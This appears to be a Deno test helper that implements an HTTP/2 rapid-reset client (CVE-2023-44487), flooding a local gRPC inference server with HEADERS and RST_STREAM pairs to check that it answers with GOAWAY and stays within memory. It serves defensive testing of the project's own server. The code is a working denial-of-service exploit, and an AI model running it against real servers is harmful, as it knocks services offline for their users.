/**
 * A rapid-reset client (CVE-2023-44487): on a raw HTTP/2 connection, HEADERS that open a gRPC
 * ModelInfer call and RST_STREAM that cancels it, again and again, until the server ends the
 * connection. `grpc_rapid_reset_test.ts` drives it; run by hand with a port and a number of
 * seconds it reconnects until the time is up, printing what the server did, for watching the
 * server's memory meanwhile:
 *
 *     deno run -A tests/_rapid_reset.ts 8001 8
 *
 * @module
 */

import { frame, FrameType, PREFACE, readUint32 } from "../src/frontend/grpc/h2/frames.ts";

const encoder = new TextEncoder();

/** An HPACK literal field without indexing (names and values under 127 bytes). */
function literal(name: string, value: string): number[] {
  const [n, v] = [encoder.encode(name), encoder.encode(value)];
  return [0x00, n.length, ...n, v.length, ...v];
}

// :method POST, :scheme http (static table), then literals.
const CALL = Uint8Array.from([
  0x83,
  0x86,
  ...literal(":path", "/inference.GRPCInferenceService/ModelInfer"),
  ...literal("content-type", "application/grpc"),
  ...literal("te", "trailers"),
]);
const CANCEL = Uint8Array.of(0, 0, 0, 8);

/** What the server did with one connection's resets. */
export interface RapidResetResult {
  /** How many HEADERS + RST_STREAM pairs were sent. */
  readonly pairs: number;
  /** The error code of the server's GOAWAY, or undefined when it sent none. */
  readonly goaway: number | undefined;
  /** The last stream the GOAWAY says the server processed, or undefined. */
  readonly lastStream: number | undefined;
}

/**
 * Opens a connection and sends HEADERS + RST_STREAM pairs, in writes of 500 pairs, until the
 * server sends GOAWAY or closes, or `maxPairs` were sent, or the time `until` came.
 *
 * @param port The server's cleartext gRPC port on 127.0.0.1.
 * @param maxPairs How many pairs to send at most.
 * @param until When to stop sending (`Date.now()` milliseconds).
 * @returns What the server did.
 */
export async function rapidReset(
  port: number,
  maxPairs: number,
  until = Infinity,
): Promise<RapidResetResult> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  let goaway: { code: number; last: number } | undefined;
  let closed = false;
  const reading = (async () => {
    const buffer = new Uint8Array(65536);
    let pending = new Uint8Array(0);
    for (;;) {
      const n = await conn.read(buffer).catch(() => null);
      if (n === null) break;
      const joined = new Uint8Array(pending.length + n);
      joined.set(pending);
      joined.set(buffer.subarray(0, n), pending.length);
      let at = 0;
      while (at + 9 <= joined.length) {
        const length = (joined[at]! << 16) | (joined[at + 1]! << 8) | joined[at + 2]!;
        if (at + 9 + length > joined.length) break;
        if (joined[at + 3] === FrameType.GOAWAY) {
          goaway = { last: readUint32(joined, at + 9), code: readUint32(joined, at + 13) };
        }
        at += 9 + length;
      }
      pending = joined.slice(at);
    }
    closed = true;
  })();
  let pairs = 0;
  let stream = 1;
  try {
    await conn.write(
      Uint8Array.from([...PREFACE, ...frame({ type: FrameType.SETTINGS, flags: 0, stream: 0 })]),
    );
    while (pairs < maxPairs && goaway === undefined && !closed && Date.now() < until) {
      const batch: Uint8Array[] = [];
      for (let i = 0; i < 500 && pairs < maxPairs; i++, pairs++, stream += 2) {
        batch.push(frame({ type: FrameType.HEADERS, flags: 0x4, stream }, CALL));
        batch.push(frame({ type: FrameType.RST_STREAM, flags: 0, stream }, CANCEL));
      }
      const bytes = new Uint8Array(batch.reduce((sum, f) => sum + f.length, 0));
      let at = 0;
      for (const f of batch) {
        bytes.set(f, at);
        at += f.length;
      }
      for (let done = 0; done < bytes.length;) done += await conn.write(bytes.subarray(done));
    }
  } catch {
    // The server closed the connection while we wrote.
  }
  // Up to 5 s for the server's answer to what was sent.
  const timer = setTimeout(() => conn.close(), 5000);
  try {
    await reading;
  } finally {
    clearTimeout(timer);
    try {
      conn.close();
    } catch {
      // Closed by the timer.
    }
  }
  return { pairs, goaway: goaway?.code, lastStream: goaway?.last };
}

if (import.meta.main) {
  const [port, seconds] = [Number(Deno.args[0]), Number(Deno.args[1] ?? "8")];
  const until = Date.now() + seconds * 1000;
  let [connections, pairs, calm] = [0, 0, 0];
  while (Date.now() < until) {
    const result = await rapidReset(port, Infinity, until);
    connections++;
    pairs += result.pairs;
    if (result.goaway === 0xb) calm++;
  }
  console.log(
    `${pairs} HEADERS + RST_STREAM pairs on ${connections} connections in ${seconds} s; ` +
      `${calm} ended with GOAWAY ENHANCE_YOUR_CALM`,
  );
}
